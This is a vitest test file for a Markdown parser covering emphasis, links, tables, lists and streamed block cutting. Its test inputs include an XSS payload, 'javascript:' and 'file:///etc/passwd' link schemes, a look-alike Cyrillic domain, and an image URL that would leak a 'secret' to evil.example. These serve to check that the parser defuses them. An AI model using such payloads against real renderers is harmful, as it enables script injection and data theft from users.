import { describe, expect, it } from 'vitest';
import { addressOf, inline } from './inline';
import { blocksOf, cutBlocks, parse } from './markdown';

describe('inline', () => {
  it('knows emphasis, code and links, and takes everything else as text', () => {
    expect(inline('a **b *c*** `d **e**` ~~f~~')).toEqual(['a ', { is: 'strong', of: ['b ', { is: 'em', of: ['c'] }] }, ' ', { is: 'code', text: 'd **e**' }, ' ', { is: 'del', of: ['f'] }]);
    expect(inline('2 * 3 * 4, snake_case_name, \\*no\\*')).toEqual(['2 * 3 * 4, snake_case_name, *no*']);
    expect(inline('<img src=x onerror=alert(1)><script>x</script>')).toEqual(['<img src=x onerror=alert(1)><script>x</script>']);
  });
  it('makes links of the web and of mail alone, and leaves only the words of others', () => {
    expect(inline('[docs](https://example.org/a)')).toEqual([{ is: 'link', href: 'https://example.org/a', of: ['docs'] }]);
    for (const bad of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' data:text/html,x', 'vbscript:x', 'file:///etc/passwd', '/relative', '//evil/x', 'blob:https://a/b']) expect(inline(`[x](${bad})`)).toEqual(['x']);
    expect(addressOf('mailto:a@b.example')).toBe('mailto:a@b.example');
    expect(inline('see https://example.org/a_b_(c). Yes')).toEqual(['see ', { is: 'link', href: 'https://example.org/a_b_(c)', of: ['https://example.org/a_b_(c)'] }, '. Yes']);
  });
  it('spells out where a look-alike leads', () => {
    expect(inline('[proxmox](https://рroxmox.com/)')).toEqual([{ is: 'link', href: 'https://xn--roxmox-9qf.com/', of: ['proxmox'] }]);
  });
  it('never fetches a picture: it is its words', () => {
    expect(inline('![the **plan**](https://evil.example/?q=secret)')).toEqual([{ is: 'picture', alt: 'the **plan**' }]);
  });
  it('takes no longer for a text that was made to take long', () => {
    for (const odd of ['*'.repeat(20_000), '['.repeat(20_000), '`'.repeat(9_999) + 'a', '![a]('.repeat(3_000), '**a '.repeat(5_000), '_a'.repeat(9_000), '[](h'.repeat(5_000), `${'['.repeat(19_000)}](h)`, '[]('.repeat(6_000) + ')']) {
      const from = performance.now();
      inline(odd);
      expect(performance.now() - from).toBeLessThan(1_000);
    }
  });
});

describe('cutBlocks', () => {
  it('calls complete what an empty line or a closed fence has ended, and nothing else', () => {
    expect(cutBlocks('one\ntwo\n\nthree')).toEqual({ complete: ['one\ntwo'], live: 'three' });
    expect(cutBlocks('a\n```sh\nls\n\npwd')).toEqual({ complete: ['a'], live: '```sh\nls\n\npwd' });
    expect(cutBlocks('```\nx\n```\n')).toEqual({ complete: ['```\nx\n```'], live: '' });
    expect(cutBlocks('')).toEqual({ complete: [], live: '' });
  });
  it('comes to the same blocks however the words were cut on their way', () => {
    const text = '# A\n\n- b\n- c\n\n```js\nd\n\ne\n```\nf\n\n| g | h |\n| - | - |\n| 1 | 2 |';
    for (let to = 0; to <= text.length; to++) {
      const { complete } = cutBlocks(text.slice(0, to));
      expect(blocksOf(text).slice(0, complete.length)).toEqual(complete);
    }
  });
});

describe('parse', () => {
  it('knows headings, lists in lists, boxes, quotes, rules and code', () => {
    expect(parse('## A\ntext')).toEqual([{ is: 'heading', level: 2, of: ['A'] }, { is: 'paragraph', of: ['text'] }]);
    const [list] = parse('1. one\n   more\n   - deep\n2. two');
    if (list?.is !== 'list') throw new Error('no list');
    expect(list.start).toBe(1);
    expect(list.items.map(({ of }) => of)).toEqual([['one\nmore'], ['two']]);
    expect(list.items[0]?.below).toMatchObject([{ is: 'list', start: undefined, items: [{ of: ['deep'] }] }]);
    expect(parse('- [x] done\n- [ ] open')).toMatchObject([{ items: [{ ticked: true }, { ticked: false }] }]);
    expect(parse('> a\n> b')).toEqual([{ is: 'quote', of: [{ is: 'paragraph', of: ['a\nb'] }] }]);
    expect(parse('---')).toEqual([{ is: 'rule' }]);
    expect(parse('```sh\nls -l\n```')).toEqual([{ is: 'code', language: 'sh', text: 'ls -l' }]);
    expect(parse('It was in\n2024. Then')).toEqual([{ is: 'paragraph', of: ['It was in\n2024. Then'] }]);
  });
  it('knows tables, and fills or cuts their rows to the head', () => {
    expect(parse('| a | b |\n| :-- | --: |\n| 1 | 2 | 3 |\n| x \\| y |')).toEqual([{ is: 'table', head: [['a'], ['b']], right: [false, true], rows: [[['1'], ['2']], [['x | y'], []]] }]);
  });
  it('ends where lists and quotes are nested for their own sake', () => {
    expect(() => parse('>'.repeat(2_000) + ' x')).not.toThrow();
    expect(() => parse(Array.from({ length: 500 }, (_, n) => `${' '.repeat(Math.min(n, 6))}- x`).join('\n'))).not.toThrow();
  });
});
